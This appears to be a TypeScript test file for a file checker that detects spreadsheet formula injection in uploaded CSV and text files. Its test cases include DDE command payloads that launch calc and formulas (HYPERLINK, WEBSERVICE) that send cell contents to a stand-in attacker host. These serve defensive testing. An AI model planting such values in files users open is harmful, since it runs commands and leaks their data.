import { Buffer } from 'node:buffer';
import { expect, it } from 'vitest';
import { checkFile } from '#worker/submissions/files/check-file.ts';

const isSuspicious = (text: string, name: string) => checkFile(Buffer.from(text), name)?.suspicious;

it.each([
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1)',
  '"=cmd|\' /C calc\'!A0"',
  'a,b\n1,=1+1',
  'a;"=A1"',
  'a\t=A1',
  '\ufeff=1+1',
  '＝1+1',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-1+WEBSERVICE("https://evil.example")',
])('flags a table or a text with the cell %j', (text) => {
  expect(isSuspicious(text, 'prices.csv')).toBe(true);
  expect(isSuspicious(text, 'prices.txt')).toBe(true);
});

it.each([
  'name,price\nA,-5.30\nB,+5',
  'phone\n+971 50 000 0003\n"+971 4 000 0000 (office)"',
  '- first point (see below)\n- second point\n-- \nSara',
  'Title\n=====\n\n@sara, a = b, c',
  'a | b | c!\n- | - | -',
  'sara@applicant.example',
])('does not flag %j', (text) => {
  expect(isSuspicious(text, 'prices.csv')).toBe(false);
  expect(isSuspicious(text, 'notes.txt')).toBe(false);
});

it('reads hostile cells quickly', () => {
  const started = performance.now();
  for (const piece of [',-|', ',-a', ',', '"', '-|', ',+a.'])
    isSuspicious(piece.repeat(2_000_000 / piece.length), 'a.csv');
  expect(performance.now() - started).toBeLessThan(10_000);
});
